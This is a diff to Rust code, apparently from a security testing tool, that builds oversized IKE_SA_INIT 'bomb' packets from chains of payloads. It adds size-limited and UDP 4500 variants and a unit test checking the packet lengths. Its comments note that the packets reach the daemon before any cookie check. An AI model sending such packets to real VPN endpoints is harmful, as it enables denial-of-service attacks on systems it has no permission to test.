@@ -223,8 +223,20 @@ pub fn message(header: &Header, (first, chain): (PayloadType, Vec<u8>)) -> Vec<u
 /// from anyone, before any cookie check (RFC 7296 §2.6). Send it to UDP 500
 /// as it is, or to 4500 after [`with_non_esp_marker`].
 pub fn ike_sa_init(spi_i: u64, bomb: Bomb) -> Vec<u8> {
+    ike_sa_init_within(spi_i, bomb, DATAGRAM_LEN)
+}
+
+/// [`ike_sa_init`] of at most `len` bytes (at least the 28-byte header).
+pub fn ike_sa_init_within(spi_i: u64, bomb: Bomb, len: usize) -> Vec<u8> {
     let header = Header::new(spi_i, 0, ExchangeType::IKE_SA_INIT, Flags::INITIATOR, 0);
-    message(&header, bomb.chain(DATAGRAM_LEN - HEADER_LEN))
+    message(&header, bomb.chain(len.saturating_sub(HEADER_LEN)))
+}
+
+/// The bomb as a UDP 4500 payload: the non-ESP marker and an IKE_SA_INIT
+/// request, [`DATAGRAM_LEN`] bytes in all.
+pub fn ike_sa_init_4500(spi_i: u64, bomb: Bomb) -> Vec<u8> {
+    let marker = NON_ESP_MARKER.len();
+    with_non_esp_marker(&ike_sa_init_within(spi_i, bomb, DATAGRAM_LEN - marker))
 }
 
 /// The Delete bomb of issue 11 as an IKE_SA_INIT request: 171 Delete payloads
@@ -431,8 +443,13 @@ mod tests {
             assert_eq!(p.exchange_type(), ExchangeType::IKE_SA_INIT);
             assert_eq!(p.length() as usize, d.len());
             assert_eq!(p.spi_i(), 0x1122);
-            let marked = with_non_esp_marker(&d);
+            let marked = ike_sa_init_4500(0x1122, bomb);
             assert_eq!(marked[..4], [0; 4]);
+            assert!(marked.len() <= DATAGRAM_LEN && marked.len() + 8 > DATAGRAM_LEN);
+            assert_eq!(
+                HeaderPacket::new_checked(&marked[4..]).map(|p| p.length() as usize),
+                Ok(marked.len() - 4)
+            );
         }
     }
 
